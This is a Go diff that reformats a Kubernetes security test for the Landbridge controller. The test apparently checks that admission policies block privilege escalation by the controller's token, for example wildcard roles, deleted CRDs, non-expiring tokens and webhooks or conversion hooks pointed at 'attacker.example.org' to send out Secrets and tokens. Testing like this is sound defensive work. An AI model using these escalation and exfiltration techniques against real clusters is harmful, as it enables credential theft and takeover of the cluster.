@@ -53,7 +53,8 @@ func (x *world) controllersClient(t *testing.T) client.Client {
 	if err != nil {
 		t.Fatal(err)
 	}
-	issued, err := kube.CoreV1().ServiceAccounts(system).CreateToken(t.Context(), "landbridge", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+	issued, err := kube.CoreV1().ServiceAccounts(system).
+		CreateToken(t.Context(), "landbridge", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -134,7 +135,9 @@ func ownWebhook(x *world) *admissionregistrationv1.ValidatingWebhookConfiguratio
 			},
 			Rules: []admissionregistrationv1.RuleWithOperations{{
 				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.OperationAll},
-				Rule:       admissionregistrationv1.Rule{APIGroups: []string{"new.landbridge.io"}, APIVersions: []string{"*"}, Resources: []string{"*"}},
+				Rule: admissionregistrationv1.Rule{
+					APIGroups: []string{"new.landbridge.io"}, APIVersions: []string{"*"}, Resources: []string{"*"},
+				},
 			}},
 			FailurePolicy: new(admissionregistrationv1.Ignore), SideEffects: new(admissionregistrationv1.SideEffectClassNone),
 			AdmissionReviewVersions: []string{"v1"},
@@ -143,7 +146,10 @@ func ownWebhook(x *world) *admissionregistrationv1.ValidatingWebhookConfiguratio
 }
 
 func webhook(means string, change func(*admissionregistrationv1.ValidatingWebhook)) attack {
-	return withToken(means, creates(ownWebhook, func(w *admissionregistrationv1.ValidatingWebhookConfiguration) { change(&w.Webhooks[0]) }), creates(ownWebhook))
+	return withToken(means,
+		creates(ownWebhook, func(w *admissionregistrationv1.ValidatingWebhookConfiguration) {
+			change(&w.Webhooks[0])
+		}), creates(ownWebhook))
 }
 
 // definition is a CRD as the controller creates it.
@@ -176,7 +182,10 @@ func inGroup(group string) func(*apiextensionsv1.CustomResourceDefinition) {
 }
 
 // installed has an administrator create a CRD, and then makes a request about it.
-func installed(object func(*world) *apiextensionsv1.CustomResourceDefinition, then func(context.Context, client.Client, client.Object) error) request {
+func installed(
+	object func(*world) *apiextensionsv1.CustomResourceDefinition,
+	then func(context.Context, client.Client, client.Object) error,
+) request {
 	return func(ctx context.Context, x *world, c client.Client) error {
 		d := object(x)
 		if err := x.Create(ctx, d); err != nil {
@@ -239,9 +248,12 @@ var token = map[string]attack{
 		r.Rules = []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}
 	}),
 	"tokens, by a role": escalation("permits itself to request tokens", func(r *rbacv1.ClusterRole) {
-		r.Rules = append(r.Rules, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"serviceaccounts/token"}, Verbs: []string{"create"}})
+		r.Rules = append(r.Rules, rbacv1.PolicyRule{
+			APIGroups: []string{""}, Resources: []string{"serviceaccounts/token"}, Verbs: []string{"create"},
+		})
 	}),
-	"kinds of others, by a role": escalation("permits itself to write custom resources of others, which deploy anything", func(r *rbacv1.ClusterRole) {
+	"kinds of others, by a role": escalation("permits itself to write custom resources of others, which "+
+		"deploy anything", func(r *rbacv1.ClusterRole) {
 		r.Rules[0].APIGroups = []string{"argoproj.io"}
 	}),
 	"a role of others": escalation("writes a role that others have", func(r *rbacv1.ClusterRole) { r.Name = "evil" }),
@@ -253,58 +265,74 @@ var token = map[string]attack{
 	}),
 
 	// No policy applies to these, so the role does not permit them at all.
-	"the API server, by a mutating policy": withToken("adds itself to the subjects of bindings that others write", creates(mutating), creates(ownRole)),
-	"a policy's binding":                   withToken("binds a mutating policy of others", creates(mutatingBinding), creates(ownRole)),
+	"the API server, by a mutating policy": withToken("adds itself to the subjects of bindings that others write",
+		creates(mutating), creates(ownRole)),
+	"a policy's binding": withToken("binds a mutating policy of others", creates(mutatingBinding), creates(ownRole)),
 
 	"all Secrets, by a webhook": webhook("has all Secrets sent to an address of its own", func(w *admissionregistrationv1.ValidatingWebhook) {
 		w.ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: new("https://attacker.example.org/")}
-		w.Rules[0].Rule = admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"*"}, Resources: []string{"secrets", "pods", "serviceaccounts/token"}}
+		w.Rules[0].Rule = admissionregistrationv1.Rule{
+			APIGroups: []string{""}, APIVersions: []string{"*"}, Resources: []string{
+				"secrets", "pods", "serviceaccounts/token",
+			},
+		}
 	}),
 	"all Secrets, by the own Service": webhook("has all Secrets sent to the controller", func(w *admissionregistrationv1.ValidatingWebhook) {
 		w.Rules[0].APIGroups, w.Rules[0].Resources = []string{""}, []string{"secrets"}
 	}),
-	"another address": webhook("has the API server send requests to an address of its own", func(w *admissionregistrationv1.ValidatingWebhook) {
-		w.ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: new("https://attacker.example.org/")}
-	}),
+	"another address": webhook("has the API server send requests to an address of its own",
+		func(w *admissionregistrationv1.ValidatingWebhook) {
+			w.ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: new("https://attacker.example.org/")}
+		}),
 	"another Service": webhook("has the API server send requests to a Service of others", func(w *admissionregistrationv1.ValidatingWebhook) {
 		w.ClientConfig.Service.Namespace = "kube-system"
 	}),
 	"writes of all": webhook("has all changes of resources refused", func(w *admissionregistrationv1.ValidatingWebhook) {
 		w.FailurePolicy = new(admissionregistrationv1.Fail)
 	}),
-	"a webhook of others": withToken("overwrites the webhooks of others", creates(ownWebhook, func(w *admissionregistrationv1.ValidatingWebhookConfiguration) {
-		w.Name = "cert-manager-webhook"
-	}), creates(ownWebhook)),
+	"a webhook of others": withToken("overwrites the webhooks of others",
+		creates(ownWebhook, func(w *admissionregistrationv1.ValidatingWebhookConfiguration) {
+			w.Name = "cert-manager-webhook"
+		}), creates(ownWebhook)),
 
 	"kinds of others": withToken("deletes a CRD of others, with all objects", installed(foreign, deletes), installed(definition, deletes)),
 	"kinds of others, by a label": withToken("labels a CRD of others as its own", installed(foreign, updates(func(o client.Object) {
 		o.SetLabels(map[string]string{"landbridge.io/provider": "new"})
 	})), installed(definition, updates(func(o client.Object) { o.SetAnnotations(map[string]string{"a": "b"}) }))),
-	"kinds of a group of others": withToken("defines a kind in a group of others", creates(definition, inGroup("argoproj.io")), creates(definition)),
-	"kinds of Kubernetes":        withToken("defines a kind in a group of Kubernetes", creates(definition, inGroup("gateway.networking.k8s.io")), creates(definition)),
+	"kinds of a group of others": withToken("defines a kind in a group of others",
+		creates(definition, inGroup("argoproj.io")), creates(definition)),
+	"kinds of Kubernetes": withToken("defines a kind in a group of Kubernetes",
+		creates(definition, inGroup("gateway.networking.k8s.io")), creates(definition)),
 	"the kinds of Landbridge": withToken("deletes the CRD of TerraformProviders", func(ctx context.Context, _ *world, c client.Client) error {
 		return deletes(ctx, c, &apiextensionsv1.CustomResourceDefinition{ObjectMeta: metav1.ObjectMeta{Name: "terraformproviders.landbridge.io"}})
 	}, installed(definition, deletes)),
-	"objects, by a conversion": withToken("has the API server send objects to an address of its own", creates(definition, func(d *apiextensionsv1.CustomResourceDefinition) {
-		d.Spec.Conversion = &apiextensionsv1.CustomResourceConversion{
-			Strategy: apiextensionsv1.WebhookConverter,
-			Webhook: &apiextensionsv1.WebhookConversion{
-				ClientConfig:             &apiextensionsv1.WebhookClientConfig{URL: new("https://attacker.example.org/")},
-				ConversionReviewVersions: []string{"v1"},
-			},
-		}
-	}), creates(definition)),
+	"objects, by a conversion": withToken("has the API server send objects to an address of its own",
+		creates(definition, func(d *apiextensionsv1.CustomResourceDefinition) {
+			d.Spec.Conversion = &apiextensionsv1.CustomResourceConversion{
+				Strategy: apiextensionsv1.WebhookConverter,
+				Webhook: &apiextensionsv1.WebhookConversion{
+					ClientConfig:             &apiextensionsv1.WebhookClientConfig{URL: new("https://attacker.example.org/")},
+					ConversionReviewVersions: []string{"v1"},
+				},
+			}
+		}), creates(definition)),
 
-	"a ServiceAccount, by a Secret": withToken("creates a Secret with a token of another ServiceAccount", creates(ownSecret, func(s *corev1.Secret) {
-		s.Type, s.Annotations = corev1.SecretTypeServiceAccountToken, map[string]string{corev1.ServiceAccountNameKey: "default"}
-	}), creates(ownSecret)),
+	"a ServiceAccount, by a Secret": withToken("creates a Secret with a token of another ServiceAccount",
+		creates(ownSecret, func(s *corev1.Secret) {
+			s.Type, s.Annotations = corev1.SecretTypeServiceAccountToken, map[string]string{corev1.ServiceAccountNameKey: "default"}
+		}), creates(ownSecret)),
 	"a lasting token": withToken("creates a Secret with a token of its own that does not expire", creates(ownSecret, func(s *corev1.Secret) {
-		s.Namespace, s.Type, s.Annotations = system, corev1.SecretTypeServiceAccountToken, map[string]string{corev1.ServiceAccountNameKey: "landbridge"}
+		s.Namespace, s.Type, s.Annotations = system, corev1.SecretTypeServiceAccountToken, map[string]string{
+			corev1.ServiceAccountNameKey: "landbridge",
+		}
 	}), creates(ownSecret)),
-	"a Secret of others": withToken("changes a Secret that it has not made", changesSecret(corev1.SecretTypeOpaque), changesSecret("connection.crossplane.io/v1alpha1")),
+	"a Secret of others": withToken("changes a Secret that it has not made", changesSecret(corev1.SecretTypeOpaque),
+		changesSecret("connection.crossplane.io/v1alpha1")),
 
 	"the policy for the token": withToken("deletes the policy that limits it", func(ctx context.Context, _ *world, c client.Client) error {
-		return c.Delete(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: "landbridge-controller"}}, client.DryRunAll)
+		return c.Delete(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{
+			ObjectMeta: metav1.ObjectMeta{Name: "landbridge-controller"},
+		}, client.DryRunAll)
 	}, creates(ownRole)),
 	"a policy for plans": withToken("loosens a policy for plans", policyPatch(""), policyPatch("status")),
 }
